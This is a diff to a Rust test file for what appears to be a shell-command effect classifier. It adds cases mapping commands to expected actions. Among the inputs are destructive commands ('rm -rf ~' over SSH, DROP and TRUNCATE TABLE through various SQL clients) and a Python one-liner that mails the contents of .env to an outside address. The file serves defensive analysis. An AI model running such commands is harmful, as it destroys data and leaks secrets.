@@ -674,12 +674,39 @@ fn sockets_and_transfers() {
         ),
         (
             "ssh -p 2222 -i ~/.ssh/key deploy@prod.acme.io 'sudo systemctl restart web'",
-            json!([host_request(
-                "ssh",
-                host(Some("deploy"), "prod.acme.io", Some(2222), None),
-                "EXEC",
-                payload(&["sudo systemctl restart web"], &[], &[])
-            )]),
+            json!([
+                host_request(
+                    "ssh",
+                    host(Some("deploy"), "prod.acme.io", Some(2222), None),
+                    "EXEC",
+                    payload(&["sudo systemctl restart web"], &[], &[])
+                ),
+                stop("web")
+            ]),
+        ),
+        // The remote command's effects elsewhere are its own; its paths are
+        // the remote host's, not this machine's.
+        (
+            "ssh ops@bastion 'rm -rf ~ && psql -h db.example.net -c \"DROP TABLE t\"'",
+            json!([
+                host_request(
+                    "ssh",
+                    host(Some("ops"), "bastion", None, None),
+                    "EXEC",
+                    payload(
+                        &["rm -rf ~ && psql -h db.example.net -c \"DROP TABLE t\""],
+                        &[],
+                        &[]
+                    )
+                ),
+                sql(
+                    "psql",
+                    Some("db.example.net"),
+                    None,
+                    Some("DROP TABLE t"),
+                    &[]
+                )
+            ]),
         ),
         (
             "ssh -o StrictHostKeyChecking=no bastion",
@@ -2010,6 +2037,8 @@ fn cloud_storage_and_iam() {
             json!([remote_delete("s3://b", true)]),
         ),
         ("aws s3 ls s3://b", json!([])),
+        // A dry run only lists what it would do.
+        ("aws s3 rm s3://b/path --recursive --dryrun", json!([])),
         // s3cmd: the last operand is the destination.
         (
             "s3cmd put -P a.txt b.txt s3://b/site/",
@@ -2249,6 +2278,76 @@ fn infrastructure_and_sql() {
                     &[]
                 ),
                 sql("mycli", Some("db2"), None, Some("DROP TABLE t"), &[])
+            ]),
+        ),
+        // Clients read from one table: their server and SQL options.
+        (
+            "sqlcmd -S tcp:mssql.prod.acme.internal,1433 -d wms -Q \"TRUNCATE TABLE dbo.picks\"",
+            json!([sql(
+                "sqlcmd",
+                Some("mssql.prod.acme.internal"),
+                None,
+                Some("TRUNCATE TABLE dbo.picks"),
+                &[]
+            )]),
+        ),
+        (
+            "mysqlsh --uri app@mysql.prod.acme.io:3306/wms --sql -e 'DELETE FROM picks'",
+            json!([sql(
+                "mysqlsh",
+                Some("mysql.prod.acme.io"),
+                None,
+                Some("DELETE FROM picks"),
+                &[]
+            )]),
+        ),
+        (
+            "clickhouse client --host ch.prod.acme.internal --query 'DROP TABLE events'",
+            json!([sql(
+                "clickhouse",
+                Some("ch.prod.acme.internal"),
+                None,
+                Some("DROP TABLE events"),
+                &[]
+            )]),
+        ),
+        (
+            "usql postgres://u@pg.acme.io/app -c 'SELECT 1'",
+            json!([sql(
+                "usql",
+                Some("pg.acme.io"),
+                Some("postgres://u@pg.acme.io/app"),
+                Some("SELECT 1"),
+                &[]
+            )]),
+        ),
+        // A command run in a pod: what it does elsewhere, not to these paths.
+        (
+            "kubectl exec deploy/toolbox -- psql -h db.example.net -c 'DROP TABLE t'",
+            json!([
+                kubectl(
+                    "exec",
+                    &[
+                        "deploy/toolbox",
+                        "psql",
+                        "-h",
+                        "db.example.net",
+                        "-c",
+                        "DROP TABLE t"
+                    ],
+                    None,
+                    None,
+                    &[],
+                    false,
+                    false
+                ),
+                sql(
+                    "psql",
+                    Some("db.example.net"),
+                    None,
+                    Some("DROP TABLE t"),
+                    &[]
+                )
             ]),
         ),
         // Terragrunt's working directory and its `run-all`/`run --all` verbs.
@@ -3467,6 +3566,22 @@ fn inline_code_that_is_written_out() {
                 "POST",
                 payload(&["POST"], &[], &["GITHUB_TOKEN"])
             )]),
+        ),
+        // A mail library sends to the addresses the code writes out.
+        (
+            "python3 -c \"import smtplib; s=smtplib.SMTP('smtp.x.io'); s.sendmail('me@acme.com', 'jo@gmail.com', open('.env').read())\"",
+            json!([
+                read(&env),
+                message(
+                    "python3",
+                    &["me@acme.com", "jo@gmail.com"],
+                    payload(
+                        &["smtp.x.io", "me@acme.com", "jo@gmail.com"],
+                        &[(&env, false)],
+                        &[]
+                    )
+                )
+            ]),
         ),
         // A GET whose URL the code builds from what it read carries it.
         (
